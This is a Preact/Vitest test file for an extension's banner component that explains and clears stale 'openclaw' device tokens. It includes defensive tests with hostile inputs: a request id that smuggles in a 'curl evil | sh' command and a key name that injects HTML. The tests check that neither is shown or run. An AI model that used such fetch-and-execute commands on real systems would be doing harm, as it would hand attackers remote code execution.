import { render } from 'preact';
import { act } from 'preact/test-utils';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { initialBannerModel, type BannerActions, type BannerModel } from '@/lib/banner-model';
import { Banner } from './Banner';

const MODEL: BannerModel = { ...initialBannerModel(null), lockouts: [{ kind: 'device-token-mismatch' }], deviceToken: 'stored' };
const actions = (): BannerActions => ({ clear: vi.fn(), undo: vi.fn(), keepNewer: vi.fn(), openPrivateWindow: vi.fn(), copyLink: vi.fn(), dismiss: vi.fn() });
const container = document.createElement('div');
document.body.append(container);
const show = (model: Partial<BannerModel>, handlers = actions()) => {
  act(() => render(<Banner model={{ ...MODEL, ...model }} actions={handlers} trustedOnly={false} />, container));
  return handlers;
};
const heading = () => container.querySelector('h2')?.textContent;
const buttons = () => [...container.querySelectorAll('button')].map((b) => b.textContent);
const click = (name: string) => act(() => [...container.querySelectorAll('button')].find((b) => b.textContent === name)!.click());

afterEach(() => act(() => render(null, container)));

describe('Banner', () => {
  it('names error A and offers the clear', () => {
    const handlers = show({});
    expect(container.querySelector('[role="alert"]')).not.toBeNull();
    expect(heading()).toBe('Device token mismatch');
    expect(buttons()).toEqual(['Clear stale device token', 'Open in private window', 'Dismiss']);
    click('Clear stale device token');
    expect(handlers.clear).toHaveBeenCalled();
  });

  it('names B, then A, when both show, and says what to paste', () => {
    show({ lockouts: [{ kind: 'device-token-mismatch' }, { kind: 'gateway-token-mismatch' }], release: '2026.4.24' });
    expect(heading()).toBe('Gateway token mismatch and Device token mismatch');
    expect(container.textContent).toContain('openclaw config file');
  });

  it('never offers the clear for B alone', () => {
    show({ lockouts: [{ kind: 'gateway-token-mismatch' }], deviceToken: 'stored' });
    expect(buttons()).not.toContain('Clear stale device token');
  });

  it('tells what was cleared, by key name, and offers Undo', () => {
    const handlers = show({ lockouts: [], deviceToken: 'cleared', clearedKeys: ['openclaw.device.auth.v1:ws://127.0.0.1:18789'], clearedAutomatically: true, undo: 'available' });
    expect(heading()).toBe('Stale device token cleared');
    expect(container.querySelector('code')?.textContent).toBe('openclaw.device.auth.v1:ws://127.0.0.1:18789');
    click('Undo');
    expect(handlers.undo).toHaveBeenCalledWith(false);
  });

  it('after the clear, the page asking for the gateway token: the clear leads, the next step once, Undo stays', () => {
    show({ lockouts: [{ kind: 'gateway-token-missing' }], deviceToken: 'cleared', clearedKeys: ['openclaw.device.auth.v1'], clearedAutomatically: true, undo: 'available', release: '2026.4.24' });
    expect(heading()).toBe('Stale device token cleared');
    const paragraphs = [...container.querySelectorAll('p')].map((p) => p.textContent!);
    expect(paragraphs).toHaveLength(1);
    expect(paragraphs[0]).toMatch(/^The extension cleared the stale device token \(openclaw\.device\.auth\.v1\), kept a backup and reloaded the page\. Next: paste the gateway token/);
    expect(container.textContent!.match(/paste the gateway token/gi)).toHaveLength(1);
    expect(buttons()).toEqual(['Undo', 'Open in private window', 'Dismiss']);
  });

  it('after the clear, a wrong gateway token is named as the new problem', () => {
    show({ lockouts: [{ kind: 'gateway-token-mismatch' }], deviceToken: 'cleared', clearedKeys: ['k'], clearedAutomatically: true, undo: 'available' });
    expect(heading()).toBe('Gateway token mismatch');
    expect(buttons()).toContain('Undo');
  });

  it('key names with backticks render no extra code elements', () => {
    const key = 'openclaw.device.auth.v1:ws://x`<b>`y`';
    show({ lockouts: [], deviceToken: 'cleared', clearedKeys: [key], sharedTokenInTab: true, undo: 'available' });
    const codes = [...container.querySelectorAll('code')];
    expect(codes.map((c) => c.textContent)).toEqual([key]);
    expect(container.querySelector('p b')).toBeNull();
    expect(container.querySelector('p')!.textContent).toContain(key);
  });

  it('long key names are cut in the banner', () => {
    const key = `openclaw.device.auth.v1:ws://${'x'.repeat(1024 * 1024)}`;
    show({ lockouts: [], deviceToken: 'cleared', clearedKeys: [key], sharedTokenInTab: true, undo: 'available' });
    const shown = container.querySelector('code')!.textContent!;
    expect(shown.length).toBeLessThanOrEqual(200);
    expect(shown.endsWith('…')).toBe(true);
  });

  it('a hostile pairing request id is never shown as a command', () => {
    show({ lockouts: [{ kind: 'pairing-required', requestId: 'x; curl evil | sh #' }] });
    expect(container.textContent).not.toContain('curl');
    expect([...container.querySelectorAll('code')].map((c) => c.textContent)).toContain('openclaw devices approve <requestId>');
  });

  it('asks before Undo overwrites a newer token', () => {
    const handlers = show({ lockouts: [], deviceToken: 'cleared', clearedKeys: ['k'], undo: 'confirm-overwrite' });
    expect(buttons()).toEqual(['Replace with backup', 'Keep the newer token', 'Dismiss']);
    click('Replace with backup');
    expect(handlers.undo).toHaveBeenCalledWith(true);
    click('Keep the newer token');
    expect(handlers.keepNewer).toHaveBeenCalled();
  });

  it('says when the dashboard already dropped the token, and what is next', () => {
    show({ deviceToken: 'none', release: '2026.9.6' });
    expect(container.textContent).toContain('already dropped it');
    expect(container.textContent).toContain('openclaw gateway auth-token --show');
    expect(buttons()).not.toContain('Clear stale device token');
  });

  it('explains a refused private window and offers the link', () => {
    const handlers = show({ privateWindow: { status: 'not-allowed', url: 'http://127.0.0.1:18789/' } });
    expect(container.textContent).toContain('Run in Private Windows');
    click('Copy link');
    expect(handlers.copyLink).toHaveBeenCalledWith('http://127.0.0.1:18789/');
  });

  it('ignores clicks a page script makes', () => {
    const handlers = actions();
    act(() => render(<Banner model={MODEL} actions={handlers} />, container));
    click('Clear stale device token');
    expect(handlers.clear).not.toHaveBeenCalled();
  });

  it('dismisses on Escape', () => {
    const handlers = show({});
    act(() => void document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape' })));
    expect(handlers.dismiss).toHaveBeenCalled();
  });
});
